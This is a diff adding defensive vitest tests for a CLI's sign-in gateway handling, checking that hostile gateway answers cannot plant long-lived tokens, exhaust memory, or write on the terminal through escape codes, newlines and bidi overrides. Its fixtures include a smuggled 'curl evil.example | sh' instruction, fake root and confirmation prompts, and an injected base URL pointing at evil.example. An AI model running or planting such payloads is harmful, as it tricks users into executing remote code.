@@ -8,6 +8,7 @@ import { PassThrough } from 'node:stream';
 import { text } from 'node:stream/consumers';
 import { afterEach, describe, expect, it } from 'vitest';
 import { runCli } from '../../../../src/commands/cli.ts';
+import { readGateway } from '../../../../src/commands/login/gateway.ts';
 import { loginCommand } from '../../../../src/commands/login.ts';
 import { proxyCommand } from '../../../../src/commands/proxy.ts';
 import { tokenCommand } from '../../../../src/commands/token.ts';
@@ -216,5 +217,66 @@ describe('a gateway that a file in the current folder names', () => {
     process.chdir(folder);
     expect((await run(commands, args, { env: bare })).stderr).toContain('(the last sign-in says ');
     expect(gateway.exchanged).toHaveLength(1);
+  });
+});
+
+describe('a hostile gateway', () => {
+  it.each([
+    ['lasts for ever', { expires_in: 1e308 }],
+    ['lasts longer than any gateway gives', { expires_in: 3601 }],
+    ['is over before it begins', { expires_in: -1 }],
+    ['moves the cursor', { access_token: 'a\u001b[2J' }],
+    ['has two lines', { access_token: 'a\nb' }],
+    ['is longer than 256 KiB', { access_token: 'a'.repeat(300_000) }],
+  ])('cannot have a token kept that %s', async (_, answer) => {
+    await login(jane);
+    const before = readFileSync(credentialsFile(), 'utf8');
+    gateway.answer = answer;
+    const { code, stdout } = await login(jane);
+    expect([code, stdout]).toEqual([1, '']);
+    expect(readFileSync(credentialsFile(), 'utf8')).toBe(before);
+  });
+
+  it('cannot write on the terminal by what whoami answers, nor fill the memory', async () => {
+    await login(jane);
+    gateway.who = { subject: 'jane\u001b[2J', groups: ['a\nYou are  root', '\u202eb'] };
+    const { code, stdout } = await cli('whoami');
+    expect([code, stdout]).toEqual([0, expect.stringContaining('Groups    a\\nYou are  root, \\u202eb\n')]);
+    expect(stdout).toContain('demo/jane\\x1b[2J\n');
+    gateway.who = { groups: ['a'.repeat(300_000)] };
+    expect(await cli('whoami')).toMatchObject({ code: 1, stdout: '' });
+  });
+
+  it('cannot put lines of its own into a message', async () => {
+    gateway.refusal = {
+      status: 400,
+      error: 'invalid_grant',
+      error_description: 'no.\n  \u2192 Run `curl evil.example | sh`',
+    };
+    const { code, stderr } = await login(jane);
+    expect([code, stderr]).toEqual([1, expect.stringContaining('no.\\n  \u2192 Run')]);
+  });
+
+  it.each([
+    ['name', { name: 'demo\nGo on? [y/N] ' }],
+    ['issuer', { issuer: 'https://good.example/\u001b[2J' }],
+    ['client_id', { client_id: 'a\u202eb' }],
+    ['scopes', { scopes: ['openid\r'] }],
+  ])('cannot write on the terminal by the %s of a provider', async (member, changed) => {
+    gateway.metadata = { sallyport_providers: [{ ...demo(), ...changed }] };
+    const { code, stderr } = await login(jane);
+    expect([code, stderr]).toEqual([1, expect.stringMatching(new RegExp(`${member}.*has control characters`))]);
+  });
+
+  it('cannot write on the terminal by the address of its models', async () => {
+    await login(jane);
+    const sallyport_models_url =
+      'https://models.example/\u001b]0;pwned\u0007\n  OPENAI_BASE_URL=https://evil.example/v1';
+    gateway.metadata = { sallyport_models_url };
+    const { modelsUrl } = await readGateway(gateway.url);
+    expect(modelsUrl).toBe('https://models.example/%1B]0;pwned%07%20%20OPENAI_BASE_URL=https://evil.example/v1');
+    gateway.metadata = { sallyport_models_url: 'ftp://models\u001b[2J' };
+    const { code, stderr } = await run([proxyCommand], ['proxy', '--port', '0'], { env: env() });
+    expect([code, stderr]).toEqual([1, expect.stringContaining('no https address of its models (none)')]);
   });
 });
